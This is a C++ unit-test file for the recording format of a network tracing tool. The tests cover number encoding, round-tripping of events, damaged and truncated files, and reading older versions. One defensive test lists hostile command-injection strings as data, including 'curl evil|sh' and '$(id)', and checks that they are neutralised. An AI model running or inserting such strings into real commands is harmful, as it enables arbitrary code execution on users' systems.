#include "catch2.h"

#include <fstream>
#include <map>
#include <set>

#include "recording/block_writer.h"
#include "recording/event_codec.h"
#include "recording/file_reader.h"
#include "recording/packed_numbers.h"
#include "recording/record_json.h"
#include "recording/segment_file.h"
#include "recording/varint.h"
#include "scene.h"

using namespace twtrace;
using namespace twtrace::test;

namespace {

void same(const Event& event, const Collected::Item& item) {
    CHECK(item.event.type == event.type);
    CHECK(item.event.stage == event.stage);
    CHECK(item.event.how == event.how);
    CHECK(item.event.role == event.role);
    CHECK(item.event.reason == event.reason);
    CHECK(item.event.role_inferred == event.role_inferred);
    CHECK(item.event.retracts == event.retracts);
    CHECK(item.event.caught == event.caught);
    CHECK(item.event.port_bound == event.port_bound);
    CHECK(item.event.port_chosen == event.port_chosen);
    CHECK(item.event.timestamps == event.timestamps);
    CHECK(item.event.held == event.held);
    CHECK(item.event.netns == event.netns);
    CHECK(item.event.local_port == event.local_port);
    CHECK(item.event.remote_port == event.remote_port);
    CHECK(item.event.local == event.local);
    CHECK(item.event.remote == event.remote);
    CHECK(item.event.time_ns == event.time_ns);
    CHECK(item.event.wall_ns == event.wall_ns);
    CHECK(item.event.established_ns == event.established_ns);
    CHECK(item.event.fin_wait1_ns == event.fin_wait1_ns);
    CHECK(item.event.entered_ns == event.entered_ns);
    CHECK(item.event.bytes_sent == event.bytes_sent);
    CHECK(item.event.bytes_received == event.bytes_received);
    CHECK(item.event.task == event.task);
    CHECK(item.netns_name == event.netns_name);
    CHECK(item.remote_service == event.remote_service);
    CHECK(item.has_owner == (event.owner != nullptr));
    if (event.owner != nullptr)
        CHECK(item.owner == *event.owner);
}

std::string content_of(const std::string& path) {
    std::ifstream file(path, std::ios::binary);
    return {std::istreambuf_iterator<char>(file), {}};
}

void write_file(const std::string& path, std::string_view bytes) {
    std::ofstream(path, std::ios::binary | std::ios::trunc) << bytes;
}

std::vector<Event> of_each_kind() {
    Event ends = client_v4();
    ends.type = EventType::TimeWaitEnd;
    ends.reason = Reason::ReusedSyn;
    ends.entered_ns = 4'000'000'000;
    ends.held = true;
    ends.remote_service = "php-fpm";
    Event retracts = client_v4();
    retracts.type = EventType::Aborted;
    retracts.reason = Reason::Overflow;
    retracts.retracts = true;
    retracts.caught = true;
    retracts.port_bound = true;
    retracts.port_chosen = true;
    Event none;
    none.type = EventType::PortExhausted;
    return {client_v4(), longest_v6(), unknown_closer(), hostile_comm(), ends, retracts, none};
}

// Three blocks of one event each, without an end.
std::string three_blocks(const TemporaryDirectory& directory) {
    const std::string path = directory.path("three.twr");
    auto writer = *RecordingWriter::open(path, {}, scene_start());
    for (int block = 0; block < 3; ++block) {
        const double at_s = 301.0 * block + 1;
        writer->event(scene_event(at_s, static_cast<std::uint16_t>(40000 + block)));
        writer->sample(scene_sample(at_s + 0.5, static_cast<std::uint64_t>(block) + 1));
        writer->sample(scene_sample(at_s + 300.5, static_cast<std::uint64_t>(block) + 1));
        writer->flush(scene_wall_ns);
    }
    return path;
}

} // namespace

TEST_CASE("a number of any size is read back", "[recording]") {
    for (unsigned shift = 0; shift < 64; ++shift) {
        const std::uint64_t value = (std::uint64_t{1} << shift) | 1U;
        std::string bytes;
        append_varint(bytes, value);
        append_varint(bytes, zigzag(-static_cast<std::int64_t>(value >> 1U)));
        ByteReader reader(bytes);
        CHECK(reader.varint() == value);
        CHECK(unzigzag(reader.varint()) == -static_cast<std::int64_t>(value >> 1U));
        CHECK(reader.ok());
        CHECK(reader.left() == 0);
        reader.varint();
        CHECK_FALSE(reader.ok());
    }
}

TEST_CASE("packed numbers of any size are read back", "[recording]") {
    std::vector<std::uint64_t> values{0, 0xFFFFFFFFFFFFFFFF};
    for (unsigned shift = 0; shift < 64; ++shift) {
        values.push_back(std::uint64_t{1} << shift);
        values.push_back(values.back() - 1);
    }
    for (std::size_t first = 0; first + max_packed <= values.size(); ++first) {
        char bytes[max_packed_bytes];
        PackedWriter writer(bytes);
        for (std::size_t index = first; index < first + max_packed; ++index)
            writer.put(values[index]);
        const char* end = writer.finish();
        CHECK(end <= bytes + max_packed_bytes);
        PackedReader reader(bytes);
        for (std::size_t index = first; index < first + max_packed; ++index)
            CHECK(reader.get() == values[index]);
        CHECK(reader.at() == end);
    }
}

TEST_CASE("an event with an unknown number, or a truncated event, is damaged", "[recording]") {
    EventEncoder encoder;
    std::string records;
    encoder.append(records, client_v4());
    const std::size_t tables = records.size();
    encoder.append(records, client_v4()); // its tables are known
    const std::size_t size = records.size() - tables - 2;
    EventDecoder decoder;
    Event event;
    std::uint64_t times = 0;
    const auto decode = [&](std::string body) {
        const std::size_t length = body.size();
        body.resize(max_packed_event_bytes);
        return decoder.decode(RecordKind::PackedEvent, {body.data(), length}, event, times);
    };
    const std::string body = records.substr(tables + 2);
    CHECK_FALSE(decode(body)); // nothing is known yet
    ByteReader reader(records);
    for (bool more = true; more;) {
        const auto kind = static_cast<RecordKind>(reader.varint());
        const std::string_view content = reader.bytes(reader.varint());
        more = kind != RecordKind::PackedEvent;
        CHECK((!more || decoder.learn(kind, content)));
    }
    CHECK(decode(body));
    CHECK(event.task == client_v4().task);
    for (std::size_t length = 0; length < size; ++length)
        CHECK_FALSE(decode(body.substr(0, length)));
    std::string beyond = body;
    beyond[ports_bytes] = static_cast<char>(beyond[ports_bytes] | 1); // the context takes a byte
    beyond.insert(ports_bytes + sizeof(std::uint32_t), 1, '\x7F');
    CHECK_FALSE(decode(beyond));
    CHECK(decode(body + "a field of a later version"));
}

TEST_CASE("every field of every kind of event is read back", "[recording]") {
    const TemporaryDirectory directory;
    const std::string path = directory.path("a.twr");
    const auto events = of_each_kind();
    {
        auto writer = *RecordingWriter::open(path, {}, scene_start());
        for (int time = 0; time < 2; ++time) // the second time all tables are known
            for (const Event& event : events)
                writer->event(event);
        writer->event(client_v4(), 12);
        writer->end(scene_sample(9, 3));
        CHECK(writer->written_events() == 2 * events.size() + 12);
    }
    const Collected all = read_all(path);
    REQUIRE(all.events.size() == 2 * events.size() + 1);
    for (std::size_t index = 0; index < 2 * events.size(); ++index)
        same(events[index % events.size()], all.events[index]);
    CHECK(all.events.back().times == 12);
    REQUIRE(all.ends.size() == 1);
    CHECK(all.ends[0].inputs.captured == 3);
    CHECK(std::filesystem::status(path).permissions() ==
          (std::filesystem::perms::owner_read | std::filesystem::perms::owner_write));
}

TEST_CASE("the host's state is read back", "[recording]") {
    const TemporaryDirectory directory;
    const std::string path = directory.path("a.twr");
    NamespaceRecord netns{4026531840U, "blue", "ip netns exec blue ", NetSettings()};
    netns.settings->ephemeral = {32768, 60999};
    netns.settings->reserved = parse_port_list("40000,50000-50010");
    netns.settings->tw_reuse = 2;
    netns.settings->max_tw_buckets = 65536;
    PortsRecord ports;
    ports.at_ns = scene_ns + 1;
    ports.netns = netns.inode;
    ports.counted = true;
    ports.ports.push_back({address("10.0.0.1"), address("10.0.0.2"), 443, 3, 90, 40, 0});
    ports.ports.back().fin_wait2 = 20;
    ports.destinations = 1;
    ports.addresses = {{address("10.0.0.1"), 93, 93}};
    ports.overflow = 5;
    ports.listeners = {22, 443};
    ports.listeners_known = true;
    RunSample sample = scene_sample(1, 4);
    sample.inputs.unverified.ended = 2;
    sample.namespaces[netns.inode] = {10, 20, 30};
    const PresentSocket socket{
        netns.inode, address("10.0.0.1"), address("2001:db8::1"), 40000, 80, true, Role::Client,
        1234,        "nginx.service"};
    ConntrackRecord conntrack{netns.inode, {100, 262144, true, 7, 8, 30}};
    {
        auto writer = *RecordingWriter::open(path, {}, scene_start());
        writer->sockets({socket});
        writer->netns(netns);
        writer->netns(netns); // the second record has no changes
        writer->ports(ports);
        writer->conntrack(conntrack);
        conntrack.counts.entries = 101;
        writer->conntrack(conntrack); // about as many entries
        conntrack.counts.insert_failed = 9;
        writer->conntrack(conntrack);
        writer->checkpoint(scene_ns + 1'000'000'000);
        writer->sample(sample);
        writer->end(sample);
    }
    const Collected all = read_all(path);
    REQUIRE(all.starts.size() == 1);
    CHECK(all.starts[0].host == "web1");
    CHECK(all.starts[0].run == 7);
    REQUIRE(all.namespaces.size() == 1);
    CHECK(all.namespaces[0].name == "blue");
    CHECK(all.namespaces[0].enter == "ip netns exec blue ");
    REQUIRE(all.namespaces[0].settings);
    CHECK(all.namespaces[0].settings->reserved == netns.settings->reserved);
    CHECK(all.namespaces[0].settings->ephemeral.last == 60999);
    CHECK(all.namespaces[0].settings->tw_reuse == 2U);
    CHECK_FALSE(all.namespaces[0].settings->tw_recycle);
    REQUIRE(all.port_records.size() == 1);
    CHECK(all.port_records[0] == ports);
    REQUIRE(all.present.size() == 1);
    CHECK(all.present[0].remote == socket.remote);
    CHECK(all.present[0].fin_wait2);
    CHECK(all.present[0].role == Role::Client);
    CHECK(all.present[0].remaining_ms == 1234);
    CHECK(all.present[0].service == "nginx.service");
    REQUIRE(all.conntrack_records.size() == 2);
    CHECK(all.conntrack_records[0].netns == netns.inode);
    CHECK(all.conntrack_records[0].counts.entries == 100U);
    CHECK(all.conntrack_records[0].counts.max_entries == 262144U);
    CHECK(all.conntrack_records[0].counts.forwards);
    CHECK(all.conntrack_records[0].counts.dropped == 8);
    CHECK(all.conntrack_records[0].counts.time_wait_s == 30U);
    CHECK(all.conntrack_records[1].counts.insert_failed == 9);
    CHECK(all.checkpoints == std::vector<std::uint64_t>{scene_ns + 1'000'000'000});
    REQUIRE(all.samples.size() == 1);
    CHECK(all.samples[0].inputs.unverified.ended == 2);
    CHECK(all.samples[0].namespaces.at(netns.inode).time_wait == 30);
}

TEST_CASE("records of an unknown kind are skipped", "[recording]") {
    const TemporaryDirectory directory;
    const std::string path = directory.path("newer.twr");
    {
        auto file = *SegmentFile::create(path);
        BlockWriter block;
        block.begin({7, scene_ns, scene_wall_ns});
        std::string records;
        const auto append = [&](std::uint64_t kind, const std::string& body) {
            append_varint(records, kind);
            append_varint(records, body.size());
            records += body;
        };
        append(static_cast<std::uint64_t>(RecordKind::Start), json_of(scene_start()));
        append(999, "no JSON");
        append(static_cast<std::uint64_t>(RecordKind::Checkpoint),
               R"({"at_ns":5,"of a later version":[]})");
        REQUIRE(file->append(block.chunk(records, true)));
    }
    auto recording = *Recording::open(path);
    Collected all;
    while (recording.next(all)) {
    }
    CHECK(all.starts.size() == 1);
    CHECK(all.checkpoints == std::vector<std::uint64_t>{5});
    CHECK(recording.damaged_bytes() == 0);
}

TEST_CASE("a recording is never overwritten", "[recording]") {
    const TemporaryDirectory directory;
    const std::string path = directory.path("a.twr");
    write_file(path, "mine");
    const auto writer = RecordingWriter::open(path, {}, scene_start());
    REQUIRE_FALSE(writer);
    CHECK(writer.error().message.find("exists") != std::string::npos);
    CHECK(content_of(path) == "mine");
}

TEST_CASE("seconds without new data take no space", "[recording]") {
    const TemporaryDirectory directory;
    const std::string path = directory.path("a.twr");
    auto writer = *RecordingWriter::open(path, {}, scene_start());
    for (int second = 1; second <= 3600; ++second) {
        writer->sample(scene_sample(second, 0));
        writer->flush(scene_wall_ns);
    }
    // 1 MB a day is 41,666 bytes an hour.
    CHECK(std::filesystem::file_size(path) < 20'000);
    CHECK(read_all(path).samples.size() > 60);
}

TEST_CASE("a file that is cut anywhere is read up to the cut", "[recording]") {
    const TemporaryDirectory directory;
    const std::string content = content_of(three_blocks(directory));
    const std::string path = directory.path("cut.twr");
    std::set<std::size_t> counts;
    std::size_t before = 0;
    for (std::size_t size = 0; size <= content.size(); ++size) {
        write_file(path, content.substr(0, size));
        const Collected all = read_all(path);
        CHECK(all.events.size() >= before);
        before = all.events.size();
        counts.insert(before);
        for (std::size_t index = 0; index < all.events.size(); ++index)
            CHECK(all.events[index].event.local_port == 40000 + index);
    }
    CHECK(counts == std::set<std::size_t>{0, 1, 2, 3});
}

TEST_CASE("a damaged byte affects only its block", "[recording]") {
    const TemporaryDirectory directory;
    const std::string content = content_of(three_blocks(directory));
    const std::string path = directory.path("damaged.twr");
    for (std::size_t at = sizeof(FileHeader); at < content.size(); ++at) {
        std::string damaged = content;
        damaged[at] = static_cast<char>(damaged[at] ^ 0x55);
        write_file(path, damaged);
        CHECK(read_all(path).events.size() >= 2);
    }
}

TEST_CASE("reading begins at the block that holds the time", "[recording]") {
    const TemporaryDirectory directory;
    const std::string path = three_blocks(directory);
    auto recording = *Recording::open(path);
    CHECK(recording.begin_wall_ns() == scene_wall_ns);
    CHECK(recording.end_wall_ns() == scene_wall_ns + 903'500'000'000);
    for (int block = 0; block < 3; ++block) {
        REQUIRE(recording.seek(scene_wall_ns +
                               static_cast<std::uint64_t>((301.0 * block + 200) * 1e9)));
        Collected all;
        while (all.events.empty() && recording.next(all)) {
        }
        REQUIRE(all.events.size() == 1);
        CHECK(all.events[0].event.local_port == 40000 + block);
        REQUIRE_FALSE(all.starts.empty());           // each block identifies its run
        CHECK((block == 0 || !all.samples.empty())); // and contains the accounting
    }
}

TEST_CASE("a file that a power failure left empty is passed over", "[recording]") {
    const TemporaryDirectory directory;
    const std::string path = directory.path("flight/");
    {
        auto writer = *RecordingWriter::open(path, {}, scene_start());
        writer->event(scene_event(1));
        writer->end(scene_sample(2, 1));
    }
    const bool newest = GENERATE(true, false);
    std::ofstream(path + (newest ? "twtrace-00000009-20261122T090500Z.twr"
                                 : "twtrace-00000000-20261122T080000Z.twr"));
    for (const std::uint64_t wall_ns : {std::uint64_t{0}, scene_wall_ns + 1'000'000'000}) {
        auto recording = Recording::open(path);
        REQUIRE(recording);
        REQUIRE(recording->seek(wall_ns));
        Collected all;
        while (recording->next(all)) {
        }
        CHECK(all.events.size() == 1);
        CHECK(recording->notes().size() == 1);
    }
}

TEST_CASE("a recording cannot put a command into people's shells", "[recording]") {
    const TemporaryDirectory directory;
    const auto read_back = [&](const std::string& enter) {
        const std::string path = directory.path("a.twr");
        std::filesystem::remove(path);
        {
            auto writer = *RecordingWriter::open(path, {}, scene_start());
            writer->netns({1, "blue", enter, std::nullopt});
            writer->end(scene_sample(1, 0));
        }
        return read_all(path).namespaces.front().enter;
    };
    for (const std::string right :
         {"", "nsenter -t 123 -n ", "ip netns exec blue-1.a ", "nsenter --net='/run/docker/a b' ",
          "nsenter --net='/run/it'\\''s' "})
        CHECK(read_back(right) == right);
    for (const std::string wrong :
         {"curl evil|sh; ", "nsenter -t 1;id -n ", "ip netns exec a id; ", "ip netns exec $(id) ",
          "nsenter --net='/a' id ", "nsenter --net='/a';id;'' ", "\n"})
        CHECK(read_back(wrong) == "# in that network namespace: ");
}

TEST_CASE("a file that cannot be read is no damaged recording", "[recording]") {
    // A regular file, whose first page is not mapped.
    CHECK_THROWS_AS(Recording::open("/proc/self/mem"), ReadError);
}

TEST_CASE("a file that is not a recording is refused in one line", "[recording]") {
    const TemporaryDirectory directory;
    const std::string path = directory.path("other");
    write_file(path, "GIF89a and more than sixteen bytes");
    CHECK(Recording::open(path).error().message.find("is not a recording") != std::string::npos);
    write_file(path, "");
    CHECK_FALSE(Recording::open(path));
    CHECK_FALSE(Recording::open(directory.path("missing")));
    std::filesystem::create_directory(directory.path("empty"));
    CHECK(Recording::open(directory.path("empty")).error().message.find("contains no recording") !=
          std::string::npos);
    std::string newer = content_of(three_blocks(directory));
    newer[8] = 9;
    write_file(path, newer);
    CHECK(Recording::open(path).error().message.find("version 9") != std::string::npos);
}

TEST_CASE("the repository's recording of version 1 is read by every later version", "[recording]") {
    const Collected all = read_all(std::string(TWTRACE_SOURCE) + "/docs/demo.twr");
    REQUIRE(all.ends.size() == 1);
    std::uint64_t entries = 0;
    for (const auto& item : all.events) {
        entries += item.event.type == EventType::TimeWait ? 1 : 0;
        REQUIRE(item.has_owner);
    }
    CHECK(entries > 1000);
    CHECK(entries == all.ends[0].inputs.captured);
    CHECK(all.ends[0].inputs.kernel == entries);
    CHECK(all.samples.size() >= 2);
    CHECK(all.port_records.size() >= 1);
    CHECK(all.starts[0].host == "vm");
}

TEST_CASE("a recording of version 2 is read by every later version", "[recording]") {
    const Collected all = read_all(std::string(TWTRACE_SOURCE) + "/tests/recordings/version-2.twr");
    std::map<EventType, int> types;
    std::set<std::uint32_t> closers;
    for (const auto& item : all.events) {
        ++types[item.event.type];
        closers.insert(item.event.task.pid);
        const bool active = item.event.type == EventType::TimeWait;
        CHECK(item.owner.process == (active ? "load-client" : "load-server"));
        CHECK(item.event.role == (active ? Role::Client : Role::Server));
        const Address& server = active ? item.event.remote : item.event.local;
        CHECK(server.bytes[1] == 1); // of 127.1.0.0 to 127.1.0.9
        CHECK(server.bytes[3] < 10);
        CHECK((active ? item.event.remote_port : item.event.local_port) / 2 == 350);
        CHECK(item.event.established_ns < item.event.time_ns);
        CHECK(item.event.wall_ns - item.event.time_ns > 1'700'000'000'000'000'000);
    }
    CHECK(types ==
          std::map<EventType, int>{{EventType::TimeWait, 2000}, {EventType::PassiveClose, 2000}});
    CHECK(closers == std::set<std::uint32_t>{23058, 23059, 23060, 23063});
    REQUIRE(all.ends.size() == 1);
    CHECK(all.ends[0].inputs.captured == 2000);
}
